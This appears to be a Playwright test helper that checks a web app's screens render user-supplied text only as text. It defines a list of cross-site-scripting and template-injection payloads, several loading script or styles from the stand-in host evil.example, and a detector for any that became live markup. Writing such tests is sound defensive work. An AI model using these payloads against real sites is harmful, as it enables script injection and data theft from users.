import { expect, type Page } from "@playwright/test";

/**
 * Injection payloads, each short enough for every field. One that the browser took for markup would
 * carry data-planted, request evil.example, open a dialog or violate the CSP.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  `<script data-planted>alert(1)</script><script src=//evil.example/1.js></script>`,
  `"><img data-planted src=https://evil.example/2 onerror=alert(2)>`,
  `'><svg data-planted onload=alert(3)><animate onbegin=alert(3) attributeName=x>`,
  `javascript:alert(4)//https://evil.example/4`,
  `{{constructor.constructor('alert(5)')()}} \${alert(5)} #{alert(5)} <%= 5 %>`,
  `[6](javascript:alert(6)) ![6](https://evil.example/6.png) <javascript:alert(6)>`,
  "`</code></pre><img data-planted src=x onerror=alert(7)>` | **7** | ~~7~~",
  `</title></textarea></select><iframe data-planted srcdoc="<script>alert(8)</script>">`,
  `<style data-planted>@import url(//evil.example/9)</style><link rel=stylesheet href=//evil.example/9>`,
  `&lt;img src=x onerror=alert(10)&gt; &#60;b data-planted&#62; \\u003cimg src=x\\u003e`,
  `" autofocus onfocus=alert(11) style="background:url(//evil.example/11)" data-planted="`,
  `\u202e<a data-planted href="data:text/html,<script>alert(12)</script>">12</a>`,
];

/**
 * Expects that no payload became an element, an event handler or a script URL. Dialogs, requests to
 * other origins and CSP violations already fail every browser test.
 */
export async function expectOnlyText(page: Page): Promise<void> {
  const planted = await page.evaluate(() => {
    const runs = /^\s*(?:javascript|vbscript|data:text)/i;
    return [...document.querySelectorAll("*")]
      .filter(
        (element) =>
          element.hasAttribute("data-planted") ||
          element.getAttributeNames().some((name) => name.startsWith("on")) ||
          ["href", "src", "action", "formaction", "srcdoc", "xlink:href"].some((name) => {
            const value = element.getAttribute(name) ?? "";
            // A link to another origin may be clicked, but is never fetched.
            const isLink = element instanceof HTMLAnchorElement && name === "href";
            return runs.test(value) || (value.includes("evil.example") && !isLink);
          }) ||
          (element.getAttribute("style") ?? "").includes("evil.example"),
      )
      .map(({ outerHTML }) => outerHTML.slice(0, 200));
  });
  expect(planted).toEqual([]);
}

/** Opens a screen and waits until it has loaded. */
export async function openScreen(page: Page, path: string): Promise<void> {
  await page.goto(path);
  await expect(page.getByRole("main").getByRole("heading").first()).toBeVisible();
  await expect(page.getByRole("status", { name: /^Loading/ })).toHaveCount(0);
  await expectOnlyText(page);
}
